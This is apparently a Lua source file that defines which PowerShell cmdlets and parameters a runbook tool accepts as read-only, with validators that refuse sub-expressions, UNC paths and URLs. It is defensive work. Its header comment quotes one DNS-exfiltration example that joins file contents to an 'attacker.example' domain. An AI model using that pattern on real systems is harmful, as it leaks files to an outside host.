--- powershell.reads_allowed — the PowerShell cmdlets runbook accepts as reads while planning
-- and inside a step's check (modules/powershell/reads.lua), and the parameters each may take.
--
-- Reads are an allow-list, not a verb: Test-ComputerSecureChannel -Repair repairs,
-- Test-CsIM signs users in and sends messages, Get-Content '\\host\share\x' authenticates to
-- another host, Get-Credential prompts. The built-in list holds exactly the cmdlets and
-- parameters that runbook's own modules send in their checks (listed in docs/security.md,
-- "Reads that plan allows"); an organization adds its own, each with the reason it only
-- reads, at the top level of its runbook file:
--
--   require("runbook.reads").allow("Get-ClusterNode", {
--     reason = "the quorum step lists the cluster's nodes; Get-ClusterNode only reads",
--     parameters = { Name = "text" },
--   })
--
-- What a parameter takes (its kind):
--   "switch"  -Name alone, -Name:$true or -Name:$false
--   "text"    one string: quoted, or a bareword of letters, digits and . - _ : ; never a UNC
--             or device path (\\host\x, //host/x) or a URL (scheme://), which make Windows
--             connect and authenticate to another host
--   "texts"   a text or a list of texts: 'a','b' or @('a','b')
--   "host"    a DNS name or an address the cmdlet connects to (-ComputerName of a cmdlet
--             whose entry allows it)
--   {"integer", min = m, max = n}   a whole number in [m, n] (-Count: nothing that hangs)
-- Values are literals only: a variable, a ( ) or $( ) sub-expression, a script block or a
-- hashtable as an argument is refused, so no argument can run or read something else
-- (Resolve-DnsName -Name (-join @((Get-Content …), '.attacker.example')) leaks a file over
-- DNS). Positional arguments are refused: they may bind to any parameter. Every cmdlet also
-- takes -Verbose.
local M = {}

M.MODULE = "modules/powershell/reads_allowed.lua"

-- The built-in list: what runbook's own modules send in checks (and the REPL's helpers).
M.BUILT_IN = {
  ["Get-CsSite"] = { reason = "modules/lync.lua: sites, site, federation_route",
                     parameters = { Identity = "text" } },
  ["Get-CsPool"] = { reason = "modules/lync.lua: pools, pool, edge_servers_of",
                     parameters = { Identity = "text" } },
  ["Get-CsService"] = { reason = "modules/lync.lua: edge_services",
                        parameters = { EdgeServer = "switch", PoolFqdn = "text" } },
  ["Get-Command"] = { reason = "modules/lync.lua: federation_route_parameter; "
                        .. "modules/capabilities.lua: preflight, the cmdlets a run needs",
                      parameters = { Name = "texts" } },
  ["Get-CsWindowsService"] = { reason = "modules/lync.lua: services, wait_services; "
                                 .. "-ComputerName is the Edge server whose services it lists",
                               parameters = { ComputerName = "host", Name = "texts" } },
  ["Get-CsManagementStoreReplicationStatus"] = {
    reason = "modules/lync.lua: replication_status, wait_until_replicated",
    parameters = { ReplicaFqdn = "text", CentralManagementStoreStatus = "switch" } },
  ["Get-Service"] = {
    reason = "modules/lync.lua: wait_services (the wait runs on the server, WaitForStatus); "
      .. "-ComputerName is the Edge server the Front End asks for",
    parameters = { Name = "texts", ComputerName = "host" } },
  ["Get-DnsServerResourceRecord"] = {
    reason = "modules/dns/windows.lua: get; -ComputerName is the DNS server the inventory names",
    parameters = { ZoneName = "text", Name = "text", RRType = "text", ComputerName = "host" } },
  ["Get-CsXmppAllowedPartner"] = { reason = "modules/lync.lua: xmpp_partners (prerequisites)",
                                   parameters = { Identity = "text" } },
  ["Get-CsAccessEdgeConfiguration"] = {
    reason = "modules/lync.lua: access_edge_configuration (prerequisites)",
    parameters = { Identity = "text" } },
  ["Get-CsExternalAccessPolicy"] = {
    reason = "modules/lync.lua: xmpp_access_policies (prerequisites)",
    parameters = { Identity = "text" } },
  ["Get-CsCertificate"] = { reason = "modules/lync.lua: certificates of the local computer "
                              .. "(prerequisites)", parameters = { Type = "texts" } },
  ["Test-NetConnection"] = { reason = "modules/lync.lua: tcp_test — a TCP connect from the "
                                .. "server itself to the host and port (issue 18, gap 6)",
                              parameters = { ComputerName = "host",
                                             Port = { "integer", min = 1, max = 65535 } } },
  ["Get-CsServerVersion"] = { reason = "modules/lync.lua: server_version of the local computer "
                                .. "(prerequisites)", parameters = {} },
}

-- Cmdlets an organization cannot add: a read verb, and yet every call changes something,
-- sends something out or waits for a person.
M.NEVER = {
  ["get-credential"] = "it prompts for a password",
  ["get-certificate"] = "with -Template it enrols and installs a certificate",
  ["get-clusterlog"] = "it writes log files on every cluster node",
  ["get-windowsupdatelog"] = "it writes a log file",
  ["test-cluster"] = "its validation tests take disks and resources offline",
  ["test-computersecurechannel"] = "with -Repair it resets the domain secure channel",
  ["test-csim"] = "it signs test users in and sends instant messages",
  ["test-cspstnoutboundcall"] = "it places a real phone call",
  ["test-cspersistentchatmessage"] = "it posts a chat message",
  ["test-csexumvoicemail"] = "it leaves a voice mail",
}

local READ_VERBS = { get = true, test = true, resolve = true }
local COMMON = { Verbose = "switch" }

local entries = {}   -- lower-case cmdlet name -> {name=, reason=, parameters=, organization=}

local function add(name, entry, organization)
  local key = name:lower()
  local known = entries[key] or { name = name, parameters = {}, reasons = {} }
  for parameter, kind in pairs(entry.parameters or {}) do known.parameters[parameter] = kind end
  known.reasons[#known.reasons + 1] = entry.reason
  known.organization = known.organization or organization
  entries[key] = known
end

for name, entry in pairs(M.BUILT_IN) do add(name, entry, false) end

--- entry(name) -> the entry of a cmdlet (case-insensitive, the exact name only) or nil.
function M.entry(name)
  return type(name) == "string" and entries[name:lower()] or nil
end

--- list() -> every entry, sorted by name: {name=, reasons={...}, parameters=, organization=}
function M.list()
  local out = {}
  for _, entry in pairs(entries) do out[#out + 1] = entry end
  table.sort(out, function(a, b) return a.name < b.name end)
  return out
end

local function kind_error(kind)
  if kind == "switch" or kind == "text" or kind == "texts" or kind == "host" then return nil end
  if type(kind) == "table" and kind[1] == "integer" and math.type(kind.min) == "integer"
     and math.type(kind.max) == "integer" and kind.min <= kind.max then
    return nil
  end
  return ("%s is no kind of value: use \"switch\", \"text\", \"texts\", \"host\" or "
          .. "{\"integer\", min = m, max = n}"):format(tostring(kind))
end

-- Why name and entry cannot be added (nil: they can).
local function allow_error(name, entry)
  if type(name) ~= "string" or not name:match("^%a+%-%a[%w]*$") then
    return ("%q is not a cmdlet name (Verb-Noun)"):format(tostring(name))
  end
  local verb = name:match("^(%a+)%-"):lower()
  if not READ_VERBS[verb] then
    return ("%s is not a Get-, Test- or Resolve- cmdlet, so it is no read"):format(name)
  end
  if M.NEVER[name:lower()] then
    return ("%s is never a read: %s"):format(name, M.NEVER[name:lower()])
  end
  if type(entry) ~= "table" or type(entry.reason) ~= "string" or #entry.reason < 10 then
    return "give the reason it only reads (reason = \"…\")"
  end
  for parameter, kind in pairs(entry.parameters or {}) do
    if type(parameter) ~= "string" or not parameter:match("^[%a_][%w_]*$") then
      return ("%q is not a parameter name"):format(tostring(parameter))
    end
    local why = kind_error(kind)
    if why then return ("-%s: %s"):format(parameter, why) end
  end
end

--- allow(name, {reason=, parameters={Name = kind, ...}}): an organization's read, for this
-- process. Only from the top level of a file (the runbook, or a module it requires), never
-- from inside a function: a check cannot widen what it may do.
function M.allow(name, entry)
  local why = allow_error(name, entry)
  if why then error("[reads] cannot allow " .. tostring(name) .. ": " .. why, 2) end
  if debug.getinfo(2, "S").what ~= "main" then
    error(("[reads] cannot allow %s from inside a function: call reads.allow at the top "
           .. "level of the runbook file, so that no check widens what it may do"):format(name),
          2)
  end
  add(name, entry, true)
end

-- ------------------------------------------------------------- values

local PLAIN_BAREWORD = "^[%w%.%-_:]+$"

-- The string a node holds, when it is a plain literal string; nil otherwise.
local function string_of(node)
  if node.kind ~= "literal" or type(node.value) ~= "string" then return nil end
  if node.bareword and (node.quoted or not node.value:match(PLAIN_BAREWORD)) then return nil end
  return node.value
end

-- The items of a list value: 'a','b' / @('a','b') / @('a') / @() / 'a' (one).
local function items_of(node)
  if node.kind == "list" then return node.items end
  if node.kind == "array" then
    if #node.body == 0 then return {} end
    if #node.body == 1 then
      local inner = node.body[1]
      return inner.kind == "list" and inner.items or { inner }
    end
    return nil
  end
  return { node }
end

local function names_another_host(text)
  return text:find("[\\/][\\/]") ~= nil or text:find("://", 1, true) ~= nil
end

local CHECKS = {}

function CHECKS.switch(node)
  if node.kind == "literal" and node.value == true then return nil end
  if node.kind == "variable" and (node.name:lower() == "true" or node.name:lower() == "false") then
    return nil
  end
  return "a switch: -Name, -Name:$true or -Name:$false"
end

function CHECKS.text(node)
  local text = string_of(node)
  if not text then return "a quoted string" end
  if names_another_host(text) then
    return "a string that names no other host (no UNC path, no URL)"
  end
end

function CHECKS.texts(node)
  local items = items_of(node)
  if not items then return "a string or a list of strings" end
  for _, item in ipairs(items) do
    if CHECKS.text(item) then return "a string or a list of strings that name no other host" end
  end
end

function CHECKS.host(node)
  local text = string_of(node)
  if not (text and text:match("^[%w%.%-:%[%]]+$")) then
    return "a host name or an address"
  end
end

local function check_integer(kind, node)
  if node.kind == "literal" and math.type(node.value) == "integer"
     and node.value >= kind.min and node.value <= kind.max then
    return nil
  end
  return ("a whole number from %d to %d"):format(kind.min, kind.max)
end

--- check_value(kind, node) -> nil | what the value must be.
function M.check_value(kind, node)
  if type(kind) == "table" then return check_integer(kind, node) end
  return CHECKS[kind](node)
end

-- The kind of parameter of entry: the exact name, case-insensitive (no abbreviation, no alias).
local function kind_of(entry, parameter)
  for name, kind in pairs(entry.parameters) do
    if name:lower() == parameter:lower() then return kind end
  end
  for name, kind in pairs(COMMON) do
    if name:lower() == parameter:lower() then return kind end
  end
end

--- check_command(node) -> nil | reason: whether a parsed command is an allowed read.
function M.check_command(node)
  local entry = M.entry(node.name)
  if not entry then
    local verb = tostring(node.name):match("^(%a+)%-%a")
    if not (verb and READ_VERBS[verb:lower()]) then
      return ("%s is not a Get-, Test- or Resolve- cmdlet"):format(node.name)
    end
    return ("%s is not on the list of reads (%s; an organization adds its own with "
            .. "reads.allow)"):format(node.name, M.MODULE)
  end
  if #node.positional > 0 then
    return ("%s has a positional argument, which may bind to any parameter: name it")
           :format(node.name)
  end
  for _, parameter in ipairs(node.order) do
    local kind = kind_of(entry, parameter)
    if not kind then
      return ("-%s of %s is not on the list of reads (%s)"):format(parameter, entry.name,
                                                                 M.MODULE)
    end
    local must_be = M.check_value(kind, node.named[parameter])
    if must_be then
      return ("the value of -%s of %s must be %s"):format(parameter, entry.name, must_be)
    end
  end
end

return M
